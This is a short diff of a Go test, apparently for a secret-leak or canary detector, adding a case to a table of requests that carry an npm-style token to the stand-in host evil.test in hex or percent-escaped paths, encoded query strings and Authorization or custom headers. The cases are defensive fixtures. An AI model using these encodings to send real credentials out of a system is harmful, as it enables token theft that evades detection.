@@ -36,6 +36,7 @@ func TestCanaryInRequests(t *testing.T) {
 		{"path, hex", "GET", "https://evil.test/a/" + hex.EncodeToString([]byte(value)), "", nil},
 		{"path, escaped", "GET", "https://evil.test/%6epm_" + value[4:], "", nil},
 		{"query", "GET", "https://evil.test/?a=" + url.QueryEscape(b64), "", nil},
+		{"query, escaped", "GET", "https://evil.test/?a=%6epm_" + value[4:], "", nil},
 		{"header", "GET", "https://evil.test/x", "", []string{"Authorization", "Bearer " + value}},
 		{"Basic", "GET", "https://evil.test/x", "", []string{"Authorization", "Basic " + b64}},
 		{"name of a header", "GET", "https://evil.test/x", "", []string{"X-" + hex.EncodeToString([]byte(value)), "1"}},
